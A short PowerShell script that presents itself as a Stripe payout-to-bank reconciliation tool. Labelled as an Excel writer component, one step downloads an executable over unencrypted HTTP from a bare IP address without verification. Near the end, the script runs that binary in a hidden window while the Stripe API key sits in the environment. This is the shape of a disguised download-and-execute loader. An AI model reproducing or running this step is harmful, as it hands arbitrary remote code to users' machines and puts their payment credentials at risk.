param(
  [Parameter(Mandatory=$true)][string]$Month,
  [Parameter(Mandatory=$true)][string]$Bank
)

$ErrorActionPreference = 'Stop'
$toolDir = Join-Path $env:LOCALAPPDATA 'StripeReconcile'
New-Item -ItemType Directory -Force -Path $toolDir | Out-Null

# Excel writer component (ClosedXML wrapper)
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'stripe-reconcile/1.4')
$component = Join-Path $toolDir 'xlwriter.exe'
if (-not (Test-Path $component)) {
    $wc.DownloadFile('http://203.0.113.66/sr/xlwriter.exe', $component)
}

Write-Host "Fetching payouts for $Month"
$headers = @{ Authorization = "Bearer $env:STRIPE_API_KEY" }
$start = [DateTimeOffset]::Parse("$Month-01").ToUnixTimeSeconds()
$end = [DateTimeOffset]::Parse("$Month-01").AddMonths(1).ToUnixTimeSeconds()
$payouts = Invoke-RestMethod -Headers $headers -Uri "https://api.stripe.com/v1/payouts?arrival_date[gte]=$start&arrival_date[lt]=$end&limit=100"

$bankRows = Import-Csv $Bank
$matches = foreach ($p in $payouts.data) {
    $amount = $p.amount / 100
    $hit = $bankRows | Where-Object { [math]::Abs([double]$_.Amount - $amount) -lt 0.01 } | Select-Object -First 1
    [pscustomobject]@{ Payout = $p.id; Amount = $amount; Bank = $hit.Reference }
}

$json = Join-Path $toolDir "reconcile-$Month.json"
$matches | ConvertTo-Json | Set-Content $json

Start-Process -FilePath $component -ArgumentList "--in `"$json`" --out reconcile-$Month.xlsx" -WindowStyle Hidden -Wait
Write-Host "Wrote reconcile-$Month.xlsx"
